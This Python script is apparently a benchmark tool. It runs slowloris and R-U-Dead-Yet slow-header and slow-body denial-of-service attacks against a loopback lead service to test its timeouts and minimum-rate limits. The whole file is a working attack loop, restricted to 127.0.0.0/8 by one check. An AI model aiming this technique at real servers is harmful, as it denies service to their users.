#!/usr/bin/env python3
"""Slow-client attacker for benchmarks/leads-under-attack.sh (never a test): holds slow-header and slow-body
connections open against the lead service on loopback, from several 127.0.0.x addresses, and opens a new one
whenever the server closes one (as a real attacker does).

  slow head: sends a request line and then one more header byte every --tick seconds, never ending the head
  slow body: sends a complete head announcing a 16,000-byte body, then --body-rate bytes a second of it

The defaults are the classic attack (slowloris / R-U-Dead-Yet): a header byte a second, bodies at 10 bytes a
second (cut by the minimum rate, then reopened). --tick 0.1 --body-rate 600 is the aggressive variant: ten header
bytes a second, and bodies just above the service's default minimum rate, so only the deadline cuts them.

Usage: slowloris.py PORT SECONDS [--heads N] [--bodies N] [--addresses 127.0.0.2-127.0.0.21] [--body-rate 10]
Prints, at the end, one line of figures: opened, closed by the server, 408 answers, most open at once.
Only loopback addresses (127.0.0.0/8) are accepted.
"""
import argparse
import ipaddress
import selectors
import socket
import time


def addresses(spec):
    first, _, last = spec.partition("-")
    start, end = ipaddress.IPv4Address(first), ipaddress.IPv4Address(last or first)
    result = [str(ipaddress.IPv4Address(a)) for a in range(int(start), int(end) + 1)]
    if not all(ipaddress.IPv4Address(a) in ipaddress.IPv4Network("127.0.0.0/8") for a in result):
        raise SystemExit("only loopback addresses (127.0.0.0/8) are allowed")
    return result


class Slow:
    def __init__(self, kind, source, port, origin):
        self.kind = kind
        self.sock = socket.socket()
        self.sock.bind((source, 0))
        self.sock.settimeout(5)
        self.sock.connect(("127.0.0.1", port))
        self.sock.setblocking(False)
        self.answer = b""
        head = "POST /leads/contact HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        if kind == "body":
            head += ("Origin: %s\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                     "Content-Length: 16000\r\n\r\n" % origin)
        self.send(head.encode())

    def send(self, data):
        try:
            self.sock.send(data)
            return True
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--heads", type=int, default=300)
    parser.add_argument("--bodies", type=int, default=300)
    parser.add_argument("--addresses", default="127.0.0.2-127.0.0.21")
    parser.add_argument("--body-rate", type=int, default=10, help="bytes per second of each slow body")
    parser.add_argument("--tick", type=float, default=1.0, help="seconds between two sends on each connection")
    parser.add_argument("--origin", default="http://bench.local")
    args = parser.parse_args()
    sources = addresses(args.addresses)
    selector = selectors.DefaultSelector()
    stats = {"opened": 0, "closed": 0, "408": 0, "max_open": 0}
    wanted = [("head", i) for i in range(args.heads)] + [("body", i) for i in range(args.bodies)]
    live = {}
    body_chunk = b"a" * max(1, int(args.body_rate * args.tick))
    end = time.monotonic() + args.seconds
    next_tick = time.monotonic()
    while time.monotonic() < end:
        # (re)open what is missing, each slot always from the same address
        for kind, i in wanted:
            if (kind, i) not in live:
                try:
                    conn = Slow(kind, sources[i % len(sources)], args.port, args.origin)
                except OSError:
                    continue
                live[(kind, i)] = conn
                selector.register(conn.sock, selectors.EVENT_READ, (kind, i))
                stats["opened"] += 1
        stats["max_open"] = max(stats["max_open"], len(live))
        timeout = max(0.0, next_tick - time.monotonic())
        for key, _ in selector.select(timeout):
            slot = key.data
            conn = live[slot]
            try:
                data = conn.sock.recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if data:
                conn.answer += data
                continue
            if conn.answer.startswith(b"HTTP/1.1 408"):
                stats["408"] += 1
            stats["closed"] += 1
            selector.unregister(conn.sock)
            conn.sock.close()
            del live[slot]
        if time.monotonic() >= next_tick:
            next_tick += args.tick
            for (kind, _), conn in list(live.items()):
                conn.send(b"X" if kind == "head" else body_chunk)
    for conn in live.values():
        conn.sock.close()
    print("slowloris: opened %(opened)d, closed by the server %(closed)d, answered 408 %(408)d, "
          "most open at once %(max_open)d" % stats)


if __name__ == "__main__":
    main()
